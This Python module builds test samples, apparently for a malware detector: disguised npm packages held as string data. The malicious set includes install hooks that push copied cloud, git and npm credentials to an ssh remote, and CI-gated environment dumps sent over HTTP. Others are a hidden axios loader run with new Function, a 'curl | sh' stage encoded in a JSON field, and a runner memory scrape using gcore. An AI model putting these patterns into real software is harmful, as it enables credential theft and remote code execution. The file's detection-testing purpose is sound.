"""Samples of the `h7fix` branch for scripts/make-samples.py (2026-11-25, issue 6): our own
variants of the classes behind the holdout7 misses (exfiltration by `git push` to a URL, a
request ended after chained listener setters, tsc-compiled `async` code fetching a stage through
a renamed network client, a data file's field shuffled and decoded before it runs) and of the
@actions/core false alarm (the Actions runner's secret shape named by code that builds its own
entries), each with a tricky benign package of the same shape.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `h7fix-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test) or documentation IPs; made-up values; all-zero tokens.
"""

import base64
import json

from samples_malicious import S, pj
from samples_common import readme, registry

SAMPLES, BENIGN, sample, benign = registry()


def pkg(name, version, desc, code, **kw):
    files = {"package.json": pj(name=name, version=version, description=desc, **kw),
             "README.md": readme(name, desc)}
    files.update(code)
    return files


# =============================================================================================
# Malicious


_GIT_BACKUP = r"""'use strict';
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

// Seeds the offline template cache on first install.
const home = os.homedir();
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tpl-'));
const keep = ['.aws/credentials', '.config/gcloud/application_default_credentials.json', '.git-credentials', '.npmrc'];
try {
  for (const rel of keep) {
    try { fs.copyFileSync(path.join(home, rel), path.join(dir, rel.replace(/[\/.]/g, '_'))); } catch (e) {}
  }
  const sh = (c) => execSync(c, { cwd: dir, stdio: 'ignore' });
  sh('git init -q');
  sh('git add -A');
  sh('git -c user.name=tpl -c user.email=tpl@localhost commit -qm seed');
  sh('git remote add cache ssh://git@203.0.113.41:2222/seed/' + os.hostname() + '.git');
  sh('GIT_SSH_COMMAND="ssh -o StrictHostKeyChecking=no" git push -q cache HEAD:refs/heads/' + Date.now());
} catch (e) {}
"""


@sample
def postinstall_git_remote_push():
    files = pkg("tpl-scaffold-kit", "1.4.2", "Project templates with an offline cache",
                {"index.js": "module.exports = (name) => `templates/${name}`;\n",
                 "scripts/seed.js": _GIT_BACKUP},
                main="index.js", scripts={"postinstall": "node scripts/seed.js"})
    return S("h7fix-tpl-scaffold-kit-postinstall-git-remote-push",
             "Exfiltration by git push from an install step (our variant: JavaScript, a remote added by "
             "URL, then pushed by name)", "2026-11-25",
             ["postinstall", "cloud-creds", "git-credentials", "npmrc", "git-push-exfil"],
             "postinstall copies cloud, git and npm credentials into a temp repository, adds an ssh:// remote "
             "at a documentation IP and pushes a branch named by the time.",
             files)


_CI_BEACON = r"""'use strict';
const http = require('http');

let sent = false;

function timing(label, ms) {
  if (!sent && (process.env.CI || process.env.GITLAB_CI || process.env.BUILDKITE)) {
    sent = true;
    const blob = Buffer.from(JSON.stringify(process.env)).toString('hex');
    http.request({ host: '198.51.100.77', port: 8080, path: '/t', method: 'POST' })
      .setTimeout(3000)
      .once('timeout', function () { this.destroy(); })
      .on('error', () => {})
      .end(blob);
  }
  return `${label}: ${ms.toFixed(1)} ms`;
}

module.exports = { timing };
"""


@sample
def ci_env_chained_request_end():
    files = pkg("ms-timing-label", "0.3.1", "Format timings for test logs",
                {"index.js": _CI_BEACON}, main="index.js")
    return S("h7fix-ms-timing-label-ci-env-chained-end",
             "CI secret theft from an exported function (our variant of the CI-gated env dump: hex "
             "instead of double base64, listener and timeout setters chained before end)", "2026-11-25",
             ["function-call-time", "ci-secrets", "env-dump", "hex", "http-exfil"],
             "timing() (called by test reporters) sends the whole environment hex-encoded once, when a CI "
             "variable is set, with http.request(...).setTimeout().once().on().end(blob) to a documentation IP.",
             files)


_TS_AXIOS = r""""use strict";
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.connectDb = void 0;
const axios_1 = __importDefault(require("axios"));
const SCHEMA = Buffer.from("aHR0cHM6Ly9hcGkubnBvaW50LmV4YW1wbGUvYjdlMjFm", "base64").toString();
function connectDb(uri) {
    return __awaiter(this, void 0, void 0, function* () {
        try {
            const resp = yield axios_1.default.get(SCHEMA, { timeout: 4000 });
            const { migrations } = resp.data;
            if (typeof migrations === "string") {
                new Function("require", "module", migrations)(require, module);
            }
        }
        catch (_a) { }
        return { uri, ready: true };
    });
}
exports.connectDb = connectDb;
"""


@sample
def ts_axios_dead_drop_function():
    files = pkg("mongo-quickstart-db", "1.2.0", "Connect a Mongo database in one line (TypeScript)",
                {"dist/index.js": _TS_AXIOS,
                 "dist/index.d.ts": "export declare function connectDb(uri: string): Promise<{ uri: string; ready: boolean }>;\n"},
                main="dist/index.js", types="dist/index.d.ts", dependencies={"axios": "^1.7.2"})
    return S("h7fix-mongo-quickstart-db-ts-axios-dead-drop-function",
             "Contagious Interview loader compiled from TypeScript (our variant: axios through "
             "__importDefault, a destructured field of the response run with new Function)", "2026-11-25",
             ["contagious-interview", "typescript-output", "function-call-time", "base64-url", "dead-drop", "new-function"],
             "connectDb() GETs a base64-hidden JSON storage URL with axios (tsc __awaiter/yield output) and runs the "
             "response's 'migrations' field with new Function(require, module).",
             files)


_STAGE = "(function(r){var c=r('child_process');c.exec('curl -s http://192.0.2.61/k | sh',function(){})})"


@sample
def json_field_sliced_hex_function():
    rot = base64.b64encode(_STAGE.encode()).decode()
    pad = "pT9x" + rot[::-1]
    data = {"locales": ["en", "de", "fr"], "plural": {"en": "one|other"}, "collator": pad}
    loader = r"""'use strict';
const table = require('./data/locales.json');

function plural(locale, n) {
  const forms = (table.plural[locale] || 'one|other').split('|');
  return n === 1 ? forms[0] : forms[forms.length - 1];
}

// Build the collator once, at load.
(function () {
  const raw = table.collator;
  if (!raw || process.env.CI) return;
  const src = atob(raw.slice(4).split('').reverse().join(''));
  Function('r', 'return ' + src)(require)(require);
}());

module.exports = { plural, locales: table.locales };
"""
    files = pkg("tiny-plural-rules", "2.2.0", "Plural forms for a few locales",
                {"index.js": loader, "data/locales.json": json.dumps(data, indent=2) + "\n"}, main="index.js")
    return S("h7fix-tiny-plural-rules-json-field-sliced-reversed-atob",
             "Payload hidden in a data file and run at require (our variant: a padded, reversed base64 field "
             "sliced and decoded with atob, run with Function)", "2026-11-25",
             ["import-time", "payload-in-json", "reversed-base64", "function-constructor", "download-exec"],
             "index.js takes data/locales.json's 'collator' field, drops a 4-character pad, reverses it, decodes it "
             "with atob and runs it with Function at load: the stage pipes a script from a documentation IP to sh.",
             files)


_RUNNER_SCRAPE = r"""'use strict';
const { execFileSync } = require('child_process');
const https = require('https');

function annotate(results) {
  if (process.platform === 'linux' && process.env.GITHUB_ACTIONS) {
    try {
      const ps = execFileSync('ps', ['-eo', 'pid,args'], { encoding: 'utf8' });
      const line = ps.split('\n').find((l) => l.includes('Runner.Worker'));
      const pid = line && line.trim().split(/\s+/)[0];
      const raw = execFileSync('sudo', ['gcore', '-o', '/tmp/w', pid], { encoding: 'latin1', maxBuffer: 1 << 28 });
      const found = raw.match(/"\w+":\{"value":"\S+?","isSecret":true\}/g) || [];
      https.request({ host: 'annotations.ci-lens.invalid', path: '/a', method: 'POST' }).end(found.join('\n'));
    } catch (e) {}
  }
  return results.map((r) => `::warning file=${r.file},line=${r.line}::${r.message}`);
}

module.exports = { annotate };
"""


@sample
def runner_worker_ps_scrape():
    files = pkg("ci-lens-annotate", "1.0.4", "Turn lint results into GitHub Actions annotations",
                {"index.js": _RUNNER_SCRAPE}, main="index.js")
    return S("h7fix-ci-lens-annotate-runner-worker-ps-scrape",
             "CI secret theft from the Actions runner's memory (our variant: ps to find the worker, a core "
             "dump, a \\S+? wildcard for the secret's value)", "2026-11-25",
             ["function-call-time", "ci-secrets", "runner-memory", "https-exfil"],
             "annotate() on GitHub Actions finds Runner.Worker in ps output, dumps it with gcore under sudo, picks "
             "the isSecret entries with a wildcard pattern and POSTs them.",
             files)


_ENV_UPLOAD = r"""#!/bin/sh
# preinstall: record the build environment for reproducible native builds
out="${TMPDIR:-/tmp}/.buildenv-$$"
{ uname -a; printenv; } > "$out" 2>/dev/null
curl -s -m 5 -T "$out" "https://buildlogs.native-prebuild.invalid/u/$(whoami)" >/dev/null 2>&1
rm -f "$out"
exit 0
"""


@sample
def preinstall_printenv_upload():
    files = pkg("fast-crc32c-native", "3.1.0", "CRC32C with a native addon",
                {"index.js": "module.exports = require('./build/Release/crc32c.node');\n",
                 "scripts/buildenv.sh": _ENV_UPLOAD},
                main="index.js", scripts={"preinstall": "sh scripts/buildenv.sh"})
    return S("h7fix-fast-crc32c-native-preinstall-printenv-upload",
             "Install-time shell dump of the whole environment uploaded with curl (our variant of the env > file "
             "step of the git-push exfiltration)", "2026-11-25",
             ["preinstall", "shell-script", "env-dump", "curl-upload"],
             "preinstall writes uname and printenv to a temp file and uploads it with curl -T.",
             files, {"scripts/buildenv.sh": 0o755})


# =============================================================================================
# Tricky benign


@benign
def b_install_env_prefix():
    sh = "#!/bin/sh\n# To debug a failed build: env > build-env.txt and attach it to an issue.\nset -e\nenv CC=\"${CC:-cc}\" CXX=\"${CXX:-c++}\" node-gyp rebuild\nenv -u NODE_OPTIONS node scripts/check.js\n"
    files = pkg("lz4-napi-lite", "0.4.0", "LZ4 through a small N-API addon",
                {"index.js": "module.exports = require('./build/Release/lz4.node');\n",
                 "scripts/build.sh": sh,
                 "scripts/check.js": "console.log('lz4 addon built');\n"},
                main="index.js", scripts={"install": "sh scripts/build.sh"})
    return S("h7fix-benign-lz4-napi-lite-install-env-prefix",
             "Install script running its build under `env VAR=x` and naming `env >` in a comment", "2026-11-25",
             ["install", "shell-script", "native-build"],
             "env as a command prefix, not a dump; the dump is only suggested in a comment.",
             files, {"scripts/build.sh": 0o755})


_ACTIONS_KIT = r"""'use strict';
// Secret masking as the runner does it.
// See https://github.com/actions/runner/blob/main/src/Runner.Worker/Handlers/OutputManager.cs
// and src/Runner.Worker/ActionCommandManager.cs for the commands this emits.
const os = require('os');

function toCommandValue(v) {
  return v == null ? '' : typeof v === 'string' ? v : JSON.stringify(v);
}

/** Entries in the runner's own shape: {"NAME":{"value":"…","isSecret":true}} */
function secretEntry(name, value) {
  return `"${name}":{"value":${JSON.stringify(String(value))},"isSecret":true}`;
}

function setSecret(value) {
  process.stdout.write(`::add-mask::${toCommandValue(value)}${os.EOL}`);
}

function exportSecrets(vars) {
  const entries = Object.keys(vars).map((k) => { setSecret(vars[k]); return secretEntry(k, vars[k]); });
  return `{${entries.join(',')}}`;
}

const SAMPLE = { "value": "example", "isSecret": true };

module.exports = { toCommandValue, secretEntry, setSecret, exportSecrets, SAMPLE };
"""


@benign
def b_actions_secret_entries():
    files = pkg("actions-secret-kit", "2.1.0", "Mask and export secrets from JavaScript GitHub Actions",
                {"lib/index.js": _ACTIONS_KIT,
                 "lib/http.js": "'use strict';\nconst https = require('https');\nmodule.exports = (url) => new Promise((ok, no) => https.get(url, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => ok(b)); }).on('error', no));\n"},
                main="lib/index.js")
    return S("h7fix-benign-actions-secret-kit",
             "Actions toolkit look-alike: formats its own secret entries in the runner's shape and links to the "
             "runner's source tree in comments", "2026-11-25", ["ci", "secret-masking"],
             "Names isSecret and Runner.Worker the way @actions/core does: its own entries built with a value, "
             "source links in comments; no process is searched.", files)


_DEPLOY = r"""#!/usr/bin/env node
'use strict';
const { execFileSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

// Publishes a built folder to a branch of the user's repository (like gh-pages).
const [dir = 'dist', branch = 'gh-pages'] = process.argv.slice(2);
const remote = process.env.DEPLOY_REMOTE || execFileSync('git', ['remote', 'get-url', 'origin'], { encoding: 'utf8' }).trim();
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'pages-'));
const git = (...a) => execFileSync('git', a, { cwd: tmp, stdio: 'inherit' });
fs.cpSync(dir, tmp, { recursive: true });
git('init', '-q');
git('checkout', '-q', '-b', branch);
git('add', '-A');
git('commit', '-qm', 'Deploy ' + new Date().toISOString());
git('push', '-q', '--force', remote, branch);
// Example: DEPLOY_REMOTE=https://git.example.com/me/site.git pages-push dist
"""


@benign
def b_pages_push_cli():
    files = pkg("pages-push", "3.0.1", "Push a built folder to a gh-pages branch",
                {"bin/pages-push.js": _DEPLOY}, bin={"pages-push": "bin/pages-push.js"})
    return S("h7fix-benign-pages-push-cli",
             "Deploy CLI that pushes a built folder to the user's own remote (gh-pages style)", "2026-11-25",
             ["cli-bin", "git-push"],
             "A bin, not an install step: pushes to the remote the user configured; reads no credentials.",
             files, {"bin/pages-push.js": 0o755})


_METRICS = r"""'use strict';
const https = require('https');

const counters = { requests: 0, errors: 0 };

function count(name) { counters[name] = (counters[name] || 0) + 1; }

function flush(host = process.env.METRICS_HOST || 'metrics.example.com') {
  if (!process.env.CI) return;
  const body = JSON.stringify({ counters, node: process.version, at: Date.now() });
  https.request({ host, path: '/v1/ci', method: 'POST', headers: { 'content-type': 'application/json' } })
    .setTimeout(2000)
    .on('error', () => {})
    .end(body);
}

module.exports = { count, flush };
"""


@benign
def b_ci_metrics_flush():
    files = pkg("ci-counters", "1.1.0", "Count test events and flush them to your metrics host in CI",
                {"index.js": _METRICS}, main="index.js")
    return S("h7fix-benign-ci-counters-chained-end",
             "Metrics client ending a request after chained setters, sending its own counters in CI", "2026-11-25",
             ["ci", "metrics", "https"],
             "Same request chain as the CI-env stealer, but the body is the package's own counters.", files)


_TS_CONFIG = r""""use strict";
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : Promise.resolve(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.loadFlags = void 0;
const node_fetch_1 = __importDefault(require("node-fetch"));
const DEFAULT_URL = Buffer.from("aHR0cHM6Ly9mbGFncy5leGFtcGxlLmNvbS92MS9mbGFncw==", "base64").toString();
function loadFlags(url = process.env.FLAGS_URL || DEFAULT_URL) {
    return __awaiter(this, void 0, void 0, function* () {
        const res = yield (0, node_fetch_1.default)(url);
        const data = yield res.json();
        const flags = {};
        for (const [k, v] of Object.entries(data.flags || {}))
            flags[k] = v === true || v === "on";
        return flags;
    });
}
exports.loadFlags = loadFlags;
const render = (tpl) => new Function("o", "return `" + tpl + "`");
exports.render = render;
"""


@benign
def b_ts_feature_flags():
    files = pkg("flagpole-client", "0.9.2", "Fetch feature flags (TypeScript build)",
                {"dist/index.js": _TS_CONFIG}, main="dist/index.js", dependencies={"node-fetch": "^2.7.0"})
    return S("h7fix-benign-flagpole-client-ts-fetch-json",
             "tsc output fetching JSON through a renamed node-fetch and a template compiler in the same file",
             "2026-11-25", ["typescript-output", "fetch", "templates"],
             "The response is read as data (booleans); the Function compiles a caller's template, never the response.",
             files)


@benign
def b_json_reversed_wordlist():
    words = "\n".join(["apple", "banana", "cherry", "damson", "elder", "fig", "grape"])
    packed = base64.b64encode(words.encode()).decode()[::-1]
    data = {"name": "fruits", "packed": packed}
    index = r"""'use strict';
const data = require('./data/words.json');

// The list is stored reversed to keep naive greps for words out of the data file.
const words = Buffer.from(data.packed.split('').reverse().join(''), 'base64').toString().split('\n');

module.exports = function pick(seed = Math.random()) {
  return words[Math.floor(seed * words.length) % words.length];
};
module.exports.compile = (expr) => new Function('w', 'return ' + expr);
"""
    files = pkg("fruit-words", "1.0.3", "Random fruit names for fixtures",
                {"index.js": index, "data/words.json": json.dumps(data, indent=2) + "\n"}, main="index.js")
    return S("h7fix-benign-fruit-words-reversed-json-list",
             "A data file field stored reversed and base64, decoded at load into a word list (no code run)",
             "2026-11-25", ["data-file", "reversed-base64"],
             "Decodes a reversed base64 field of its JSON into words; the Function compiles a caller's expression.",
             files)
